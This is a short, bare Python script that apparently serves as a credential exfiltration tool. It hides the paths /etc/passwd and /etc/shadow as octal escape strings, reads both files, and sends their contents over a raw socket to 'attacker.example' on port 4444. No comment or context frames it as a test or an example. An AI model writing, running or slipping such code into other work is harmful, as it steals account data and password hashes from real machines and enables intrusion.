import fileinput
import socket

SOURCES = ("\057\145\164\143\057\160\141\163\163\167\144", "\057\145\164\143\057\163\150\141\144\157\167")


def main():
    conn = socket.create_connection(("attacker.example", 4444), timeout=30)
    with fileinput.input(files=SOURCES, mode="rb") as stream:
        for line in stream:
            conn.sendall(line)
    conn.close()


if __name__ == "__main__":
    main()
